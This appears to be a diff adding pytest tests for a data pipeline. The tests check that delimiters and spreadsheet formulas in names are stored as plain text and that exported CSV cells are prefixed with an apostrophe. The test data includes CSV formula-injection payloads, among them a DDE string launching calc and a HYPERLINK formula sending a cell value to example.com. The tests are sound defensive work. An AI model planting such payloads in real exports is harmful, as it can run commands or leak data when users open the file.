@@ -1,0 +1,96 @@
+"""F14: text stays text. A delimiter or a formula in a name is stored as it came, and no exported cell can run."""
+
+from __future__ import annotations
+
+import csv
+from datetime import date, datetime
+from importlib import import_module
+from pathlib import Path
+from types import ModuleType
+
+import pandas as pd
+import pytest
+
+from pipelines import landing
+from pipelines.errors import RejectedFile
+
+exporter = import_module("pipelines.scoring.extract")  # the package has a function of this name
+SUBSCRIBERS = "billing_bravo.subscribers"
+ACCOUNTS = "billing_alpha.accounts"
+NIGHT = date(2026, 3, 11)
+STARTS = ("=", "+", "-", "@")
+FORMULAS = (
+    '=HYPERLINK("http://example.com?x="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\n=1+1",
+    "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)",
+)
+
+
+@pytest.mark.parametrize("region", ["north; south", 'the "old" north', ";", "a;b;c", *FORMULAS[:5], FORMULAS[7]])
+def test_F14_a_delimiter_or_a_formula_is_stored_as_the_text_it_is(
+    home: Path, drops: ModuleType, region: str
+) -> None:
+    drops.estate(ACCOUNTS)
+    rows = [{**row, "region": region, "customer_name": f"=1+1;{number};\"x\""}
+            for number, row in enumerate(drops.rows(ACCOUNTS))]
+    drops.drop(ACCOUNTS, rows)
+    (landed,) = landing.land(drops.AS_OF)
+    assert (landed.rows, landed.quarantined) == (3, 0)
+    table = drops.raw(ACCOUNTS)
+    assert table["region"].to_pylist() == [region] * 3
+    assert table["payment_method"].to_pylist() == ["bank_transfer"] * 3
+
+
+@pytest.mark.parametrize("area", FORMULAS[:5])
+def test_F14_in_json_lines_too(home: Path, drops: ModuleType, area: str) -> None:
+    drops.estate(SUBSCRIBERS)
+    drops.drop(SUBSCRIBERS, [{**row, "sales_area": area, "full_name": area} for row in drops.rows(SUBSCRIBERS)])
+    landing.land(drops.AS_OF)
+    assert drops.raw(SUBSCRIBERS)["sales_area"].to_pylist() == [area] * 3
+
+
+def test_F14_a_delimiter_that_is_not_quoted_rejects_the_file(home: Path, drops: ModuleType) -> None:
+    drops.estate(ACCOUNTS)
+    data = drops.encode(ACCOUNTS, [{**row, "region": "@here@"} for row in drops.rows(ACCOUNTS)])
+    drops.put(ACCOUNTS, data.replace(b"@here@", b"north;south", 1), 3)
+    with pytest.raises(RejectedFile, match="not the columns of the header in every line: Expected 10 columns, got 11"):
+        landing.land(drops.AS_OF)
+
+
+@pytest.fixture
+def exported(home: Path, monkeypatch: pytest.MonkeyPatch) -> list[list[str]]:
+    """Every cell of an extract in which each formula stands in each text column, beside numbers below zero."""
+    count = len(FORMULAS)
+    numbers = [f"sub_{number:02d}" for number in range(count)]
+    roster = pd.DataFrame({
+        "subscriber_id": numbers, "operator": FORMULAS, "region": FORMULAS, "segment": FORMULAS,
+    })
+    scores = pd.DataFrame({
+        "subscriber_id": numbers, "ltv_eur_12m": -12.5, "margin_eur_month": -1.0, "survival_12m": 0.5,
+        "reason_1": FORMULAS, "reason_2": FORMULAS, "reason_3": None, "model_version": "1",
+        "expires_at": datetime(2026, 3, 14),
+    })
+    monkeypatch.setattr(exporter, "_roster", lambda as_of: roster)
+    monkeypatch.setattr(exporter, "published_scores", lambda model, as_of: scores if model == "ltv" else None)
+    with exporter.extract(NIGHT).open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def test_F14_no_cell_of_the_extract_begins_as_a_formula(exported: list[list[str]]) -> None:
+    header, *rows = exported
+    assert len(rows) == len(FORMULAS)
+    numeric = {header.index(name) for name in ("ltv_eur_12m", "margin_eur_month", "survival_12m")}
+    cells = [cell for row in rows for place, cell in enumerate(row) if place not in numeric]
+    assert [cell for cell in [*header, *cells] if cell.startswith((*STARTS, "\t", "\r", "\n", *"＝＋－＠"))] == []
+    for row in rows:  # what begins with a sign and has no apostrophe is a number
+        assert all(float(row[place]) is not None for place in numeric)
+
+
+def test_F14_the_apostrophe_is_all_that_is_added_to_a_text(exported: list[list[str]]) -> None:
+    header, *rows = exported
+    for name in ("operator", "region", "segment", "ltv_reason_1", "ltv_reason_2"):
+        assert [row[header.index(name)] for row in rows] == [f"'{formula}" for formula in FORMULAS]
+
+
+def test_F14_a_number_below_zero_stays_a_number(exported: list[list[str]]) -> None:
+    header, *rows = exported
+    assert {row[header.index("ltv_eur_12m")] for row in rows} == {"-12.5"}
